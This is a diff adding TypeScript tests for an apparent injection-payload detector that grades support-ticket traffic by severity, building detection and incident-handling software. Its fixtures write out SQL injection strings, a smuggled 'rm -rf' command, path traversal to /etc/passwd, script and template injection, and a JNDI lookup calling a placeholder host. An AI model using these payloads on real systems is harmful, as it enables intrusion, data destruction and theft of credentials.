@@ -175,3 +175,76 @@ describe('what came back', () => {
     expect(signalsOf(quoted)[0]!.observed.trace).toBeUndefined()
   })
 })
+
+describe('payloads that are quoted among sentences', () => {
+  const sentences = [
+    'Hello, my parcel has not arrived yet and the tracking page shows nothing new.',
+    'Thank you for the quick reply, it works again now.',
+    'Could you please send me the invoice of last month once more?',
+    'ok thanks',
+  ]
+  const ticket = (body: string): string => `POST /tickets body=${JSON.stringify({ subject: 'Help', body })}`
+  const learned = Array.from({ length: 6 }, () =>
+    sentences.map(text => `learn ann,bob,cid ${ticket(text)} -> 201 {"ok":true}`).join('\n'),
+  ).join('\n')
+  const quoted = [
+    'Hi, since the update the report page shows me: SELECT * FROM orders WHERE id = 1 OR 1=1; could you look?',
+    "In the review I said that somebody could send ' OR 1=1 -- as the name and read all of it.",
+    'I ran `curl -s http://localhost:9200/_cat/indices | sort; cat /etc/hosts` as you told me, and it hangs.',
+    'Our page shows <script>alert(1)</script> as plain text, is that on purpose or a mistake?',
+    'Your scanner says that ../../../../etc/passwd can be read through the old download page, can you check?',
+    `My colleague asked what {{7*7}} or \${7*7} in the letter means, the customer saw it like that.`,
+    "When I follow your guide the shell says nothing after '; rm -rf /tmp/cache; echo done' and then stops.",
+  ]
+
+  it('say little, whoever sends them, also in an import', () => {
+    let raised = 0
+    for (const text of quoted) {
+      for (const line of [
+        `dan ${ticket(text)}`,
+        `eve kind=service POST /imports/tickets body=${JSON.stringify({ tickets: [{ body: sentences[0] }, { body: text }] })}`,
+      ]) {
+        for (const signal of signalsOf(`${learned}\n${line} -> 201 {"ok":true}`)) {
+          expect([text, signal.severity, signal.confidence <= 0.5]).toEqual([text, 'low', true])
+          raised += 1
+        }
+      }
+    }
+    expect(raised).toBeGreaterThan(quoted.length)
+  })
+
+  it('open no incident, however many of them a support desk imports', () => {
+    const detection = new Detection({ detectors: [injectionPayload], graphDetectors: [] })
+    const lines = quoted.map(text => `eve kind=service ${ticket(text)} x 5 -> 201 {"ok":true}`)
+    for (const o of observations(traffic([learned, ...lines].join('\n')))) detection.observe(o)
+    expect(detection.signals().length).toBeGreaterThan(2)
+    expect(detection.incidents()).toEqual([])
+  })
+
+  it('are loud where they stand alone, in another field, or where the answer shows that they worked', () => {
+    const loud: [string, string][] = [
+      [`dan ${ticket("' UNION SELECT username, password FROM users--")} -> 201 {"ok":true}`, 'high'],
+      [`dan GET /tickets?order=${encodeURIComponent(quoted[0]!)} -> 200 {"ok":true}`, 'high'],
+      [
+        `dan ${ticket(quoted[1]!)} -> 500 {"error":"You have an error in your SQL syntax; check the manual near '1=1'"}`,
+        'critical',
+      ],
+      [
+        `dan ${ticket(`Hello, please look at this new page for me: \${jndi:ldap://x.example/a}`)} -> 201 {"ok":true}`,
+        'medium',
+      ],
+    ]
+    for (const [line, severity] of loud) {
+      const [signal] = signalsOf(`${learned}\n${line}`)
+      expect([line, signal?.severity]).toEqual([line, severity])
+    }
+    expect(loud).toHaveLength(4)
+  })
+
+  it('are as loud as ever where nothing is known of the field, or it holds no sentences', () => {
+    const names =
+      'learn ann,bob,cid POST /tickets body={"subject":"Help","body":"order-{n}"} x 8 -> 201 {"ok":true}'
+    for (const before of ['', `${names}\n`])
+      expect(signalsOf(`${before}dan ${ticket(quoted[0]!)} -> 201 {"ok":true}`)[0]?.severity).toBe('high')
+  })
+})
